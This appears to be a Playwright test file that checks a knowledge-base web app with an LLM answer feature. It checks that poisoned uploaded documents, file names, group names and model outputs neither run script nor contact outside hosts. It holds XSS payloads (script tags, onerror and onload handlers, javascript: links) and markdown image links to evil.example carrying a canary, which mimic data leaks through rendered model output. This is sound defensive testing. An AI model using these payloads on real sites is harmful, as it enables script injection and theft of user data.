"""Documents, names and model outputs that mean harm reach no other server and run no script."""

from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, FilePayload, expect

from tests.browser.visitor import PASSWORD, Visitor, visitor
from tests.corpus.llm_server import LlmServer
from tests.corpus.serving import serving

EVIL = "http://evil.example"
NAME = "<img src=http://evil.example/n.png onerror=window.hacked=1> [x](javascript:alert(1)).md"
TEXT = f"""# ![pixel]({EVIL}/title.png) <script>window.hacked=1</script> Holiday

Everybody has 27 days of paid holiday a year, see ![pixel]({EVIL}/p.png?q=CANARY) and <{EVIL}/auto> and [policy][1].

<img src="{EVIL}/i.png" onerror="window.hacked=1"> <svg onload="window.hacked=1"></svg> $\\href{{{EVIL}}}{{x}}$

[1]: {EVIL}/reference
"""
OUTPUT = f"Everybody has 27 days of paid holiday a year ![p]({EVIL}/m.png?q=CANARY) <img src={EVIL}/m2.png>. [1]"


@pytest.fixture(scope="module")
def victim(browser: Browser, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Visitor]:
    home = tmp_path_factory.mktemp("poisoned") / "home"
    with (
        LlmServer("ok", text=OUTPUT) as llm,
        serving(
            home,
            KB_LLM_MODEL="openai:test",
            KB_LLM_BASE_URL=llm.base_url,
            KB_LLM_API_KEY="none",
            KB_ANSWERS_MODE="balanced",
        ) as served,
    ):
        who = visitor(browser, served.address)
        account = {"token": served.token, "name": "<b onclick=alert(1)>eve", "password": PASSWORD}
        who.call("POST", "/api/v1/setup", account)
        who.sign_in(account["name"])
        yield who
        who.page.context.close()


def harmless(who: Visitor) -> None:
    """No request went elsewhere, nothing ran, nothing became a link or a picture."""
    assert who.foreign == []
    assert who.page.evaluate("window.hacked === undefined")
    expect(who.page.locator(f"a[href*='evil'], img[src*='evil'], [src^='{EVIL}']")).to_have_count(0)
    assert [said for said in who.wrong if "404" not in said] == []


def test_t041_t044_a_poisoned_document_and_its_name_are_only_shown(victim: Visitor, tmp_path: Path) -> None:
    file = FilePayload(name=NAME, mimeType="text/markdown", buffer=TEXT.encode())
    victim.open("/documents")
    victim.says("There are no documents yet")
    victim.press("Add documents")
    victim.page.locator(".upload input[type=file]").first.set_input_files(file)
    expect(victim.page.locator("table tbody tr")).to_have_count(1, timeout=60_000)
    harmless(victim)
    victim.page.locator("table tbody button").first.click()
    victim.says("Original file")
    for view in ("Versions", "Report", "Look after"):
        victim.page.get_by_text(view, exact=True).first.click()
    victim.says("I vouch for it")
    harmless(victim)


def test_t041_t044_a_poisoned_answer_and_its_source_are_only_shown(victim: Visitor) -> None:
    victim.open("/")
    answer = victim.ask(f"how many days of paid holiday a year ![q]({EVIL}/q.png)")
    expect(answer).to_contain_text("27 days")
    harmless(victim)
    answer.locator(".mark, .place").first.click()
    expect(victim.page.locator("mark").first).to_be_visible()
    harmless(victim)


def test_t044_names_of_people_and_groups_are_only_shown(victim: Visitor) -> None:
    victim.call("POST", "/api/v1/groups", {"name": f"![g]({EVIL}/g.png)<script>window.hacked=1</script>"})
    victim.open("/people")
    victim.says("Groups")
    victim.page.get_by_role("tab", name="Groups").click()
    harmless(victim)
    victim.open("/settings")
    victim.page.get_by_text("Audit log", exact=True).click()
    expect(victim.page.locator("table tbody tr").first).to_be_visible()
    harmless(victim)
